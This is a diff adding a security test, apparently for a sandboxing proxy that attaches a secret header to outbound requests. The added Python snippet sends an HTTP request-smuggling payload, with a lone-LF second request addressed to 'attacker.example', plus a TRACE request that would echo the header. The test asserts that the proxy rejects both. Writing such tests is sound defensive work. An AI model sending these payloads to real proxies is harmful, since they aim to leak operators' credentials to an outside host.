@@ -711,6 +711,25 @@ print(get("http://upstream.test:8000/h"))
 print(get("http://a.wild.test:8000/h"))
 print("in env:", any("s3cr3t" in v for v in os.environ.values()))
 "#;
+    // The attacks on a host that gets the operator's header: a second request smuggled behind
+    // a lone LF (a lenient upstream would give it the header), and TRACE, which echoes it.
+    let smuggle = r#"
+import os, socket
+def raw(head):
+    p = os.environ["HTTP_PROXY"].rsplit("/", 1)[-1].split(":")
+    s = socket.create_connection((p[0], int(p[1])), timeout=10)
+    s.sendall(head)
+    data = b""
+    while True:
+        b = s.recv(4096)
+        if not b: break
+        data += b
+    return data.decode(errors="replace").splitlines()[0]
+print(raw(b"GET http://upstream.test:8000/a HTTP/1.1\r\nX: y\n\nGET /b HTTP/1.1\nHost: attacker.example\r\n\r\n"))
+print(raw(b"TRACE http://upstream.test:8000/t HTTP/1.1\r\n\r\n"))
+"#;
+    let sc = run(&s, "h", "net", smuggle).await;
+    assert_eq!(sc["stdout"], "HTTP/1.1 400 Bad Request\nHTTP/1.1 400 Bad Request\n", "{sc}");
     let sc = run(&s, "h", "net", code).await;
     let out = sc["stdout"].as_str().unwrap_or_default().to_owned();
     let sha = |v: &str| format!("{:x}", sha2::Sha256::digest(v.as_bytes()));
